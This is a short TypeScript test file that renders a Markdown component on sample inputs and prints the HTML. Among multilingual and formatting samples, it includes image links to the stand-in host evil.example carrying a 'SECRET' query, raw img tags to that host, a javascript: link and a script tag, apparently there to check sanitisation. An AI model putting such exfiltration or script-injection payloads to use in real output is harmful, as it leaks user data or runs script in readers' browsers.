import { render, screen } from "@testing-library/react";
import { expect, test } from "vitest";
import { Markdown } from "../src/markdown/markdown.tsx";

function html(text: string): string {
  const { container } = render(<Markdown text={text} />);
  return container.innerHTML;
}

test("x", () => {
  for (const t of [
    "**重要：**本文です",
    "![x](https://evil.example/p.png?q=SECRET)",
    "![x][r]\n\ntext\n\n[r]: //evil.example/a.png",
    'a <img src="https://evil.example/x.png" alt=hi> b',
    '<img src="//evil.example/x.png">',
    "مرحبا -3.5% world",
    "- שלום\n- עולם\n\ntext\n\n```js\nlet a = 1;\n```\n",
    "[^1] foo\n\n[^1]: note",
    "[a](javascript:alert(1)) [b](landing.html) [c](//x.y/z) <script>alert(1)</script>",
    "1. a\n\n   b\n2. c\n\n- [x] done",
  ])
    console.log(html(t));
});
